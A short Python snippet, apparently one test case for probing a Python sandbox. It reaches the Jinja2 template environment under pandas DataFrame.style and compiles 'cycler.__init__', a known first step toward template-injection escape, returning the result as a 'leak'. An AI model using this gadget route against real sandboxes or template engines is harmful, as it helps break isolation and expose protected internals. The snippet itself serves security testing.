# route: the template engine under DataFrame.style, by another of its templates
import pandas as pd


def execute(testData):
    engine = pd.DataFrame([1]).style.template_latex.environment
    text = "cycler.__init__".replace("x", "") + testData["canary_path"][:0]
    return {"leak": str(engine.compile_expression(text)())}
